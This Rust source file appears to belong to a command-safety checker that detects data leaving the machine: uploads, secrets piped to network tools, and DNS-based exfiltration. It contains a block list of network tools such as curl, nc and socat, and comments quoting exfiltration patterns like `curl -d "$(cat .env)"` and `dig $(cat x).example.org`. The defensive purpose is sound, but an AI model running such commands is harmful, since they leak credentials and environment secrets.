//! Data that leaves the machine.

use super::report::Report;
use super::transfer::{is_remote, sends_stdin};
use super::{Effect, Verb, effects as effects_of, rules};
use crate::command::{Invocation, Script, Stdin, UNKNOWN, Word};
use crate::paths::{Area, Follow, Machine, Scene, Secret};
use crate::redact;

/// Adds what is wrong with what a command sends away.
pub(super) fn check(
    command: &Invocation,
    script: &Script,
    effects: &[Effect],
    scene: &Scene<'_>,
    report: &mut Report<'_>,
) {
    dns(command, report);
    if scene.machine() != Machine::Local || stays_here(command) {
        return;
    }
    let uploads = effects.iter().filter(|effect| effect.verb == Verb::Upload);
    if uploads
        .into_iter()
        .any(|effect| is_worth_asking(effect, scene))
    {
        report.command(&rules::UPLOAD);
    }
    if sends_stdin(command) {
        piped(command, script, scene, report);
    }
    if is_sender(&command.program) && sends_what_it_was_given(command, script, scene) {
        report.command(&rules::SECRET_UPLOAD);
    }
}

/// Temporary files and output are made to be sent, more often than not.
fn is_worth_asking(effect: &Effect, scene: &Scene<'_>) -> bool {
    let spots = scene.spots(&effect.target, Follow::Links);
    spots
        .iter()
        .any(|spot| !matches!(spot.area, Area::Temp | Area::Build | Area::Stream))
}

fn piped(command: &Invocation, script: &Script, scene: &Scene<'_>, report: &mut Report<'_>) {
    if let Stdin::Text(text) = &command.stdin
        && redact::find(text)
            .iter()
            .any(|found| found.kind.is_unmistakable())
    {
        report.command(&rules::SECRET_UPLOAD);
    }
    for source in script.origins(&command.sources) {
        if is_environment(source) {
            report.command(&rules::SECRET_UPLOAD);
        }
        let is_project = source.program == "git"
            && source
                .words()
                .any(|word| matches!(word, "archive" | "bundle" | "diff" | "log" | "show"));
        for effect in effects_of(source, scene) {
            if !matches!(effect.verb, Verb::Read | Verb::Feed | Verb::CopyFrom) {
                continue;
            }
            for spot in scene.spots(&effect.target, Follow::Links) {
                if spot.secret.is_some_and(Secret::is_hidden)
                    || matches!(spot.area, Area::Home | Area::Root)
                {
                    report.command(&rules::SECRET_UPLOAD);
                } else if !matches!(spot.area, Area::Temp | Area::Build | Area::Stream) {
                    report.command(&rules::UPLOAD);
                }
            }
        }
        if is_project {
            report.command(&rules::UPLOAD);
        }
    }
}

fn is_environment(command: &Invocation) -> bool {
    match command.program.as_str() {
        "env" | "printenv" | "history" => true,
        "set" => command.args.is_empty(),
        "export" | "declare" => command
            .words()
            .all(|word| matches!(word, "-p" | "-x" | "-xp" | "-px")),
        _ => false,
    }
}

fn is_sender(program: &str) -> bool {
    matches!(
        program,
        "curl"
            | "wget"
            | "http"
            | "https"
            | "xh"
            | "xhs"
            | "nc"
            | "ncat"
            | "netcat"
            | "socat"
            | "telnet"
            | "ssh"
            | "dig"
            | "host"
            | "nslookup"
            | "drill"
            | "ping"
    )
}

/// `curl -d "$(env)" …`, `curl -d "$(cat .env)" …`: secrets go into an argument.
fn sends_what_it_was_given(command: &Invocation, script: &Script, scene: &Scene<'_>) -> bool {
    let words = command.args.iter().filter(|word| !word.from.is_empty());
    words
        .flat_map(|word| script.origins(&word.from))
        .any(|source| is_environment(source) || tells_secrets(source, scene))
}

fn tells_secrets(source: &Invocation, scene: &Scene<'_>) -> bool {
    let shown = effects_of(source, scene)
        .into_iter()
        // `$(<file)` is the shell's own way of showing a file.
        .filter(|effect| {
            effect.verb == Verb::Read || effect.verb == Verb::Feed && source.program.is_empty()
        });
    shown
        .flat_map(|effect| scene.spots(&effect.target, Follow::Links))
        .any(|spot| {
            spot.secret
                .is_some_and(|secret| secret.sure && secret.is_hidden())
                && !spot.possible
        })
}

/// Whether every address of the command is this machine.
fn stays_here(command: &Invocation) -> bool {
    let mut hosts = command
        .words()
        .filter(|word| !word.starts_with('-'))
        .filter_map(host_of);
    let Some(first) = hosts.next() else {
        return false;
    };
    is_loopback(first) && hosts.all(is_loopback)
}

/// The host in a word that has one for certain: an address, or `host:path`.
fn host_of(word: &str) -> Option<&str> {
    let rest = match word.split_once("://") {
        Some((_, rest)) => rest,
        None if is_loopback(word) => return Some(word),
        None if is_remote(word) || word.contains(':') => word,
        None => return None,
    };
    let host = rest.split(['/', '?', '#']).next()?;
    let host = host.rsplit('@').next()?;
    if let Some(inner) = host.strip_prefix('[') {
        return inner.split(']').next();
    }
    host.split(':').next()
}

fn is_loopback(host: &str) -> bool {
    let name = host.split(':').next().unwrap_or(host);
    matches!(name, "localhost" | "0.0.0.0" | "host.docker.internal")
        || name.starts_with("127.")
        || name.ends_with(".localhost")
        || host == "::1"
}

/// Looking up a name tells its name server: `dig $(cat x).example.org`.
fn dns(command: &Invocation, report: &mut Report<'_>) {
    if !matches!(
        command.program.as_str(),
        "dig" | "nslookup" | "host" | "drill" | "ping" | "resolvectl" | "getent"
    ) {
        return;
    }
    let sends = |word: &Word| {
        let text = word.text.as_str();
        let before_dot = text
            .find('.')
            .is_some_and(|dot| text[..dot].contains(UNKNOWN));
        let after = text
            .trim_end_matches('.')
            .rsplit(UNKNOWN)
            .next()
            .unwrap_or("");
        // A name that a command has a part in carries something; a variable is most likely a host.
        (before_dot && after.contains('.')) && !word.from.is_empty()
    };
    if command.args.iter().any(sends) {
        report.command(&rules::DNS);
    }
}
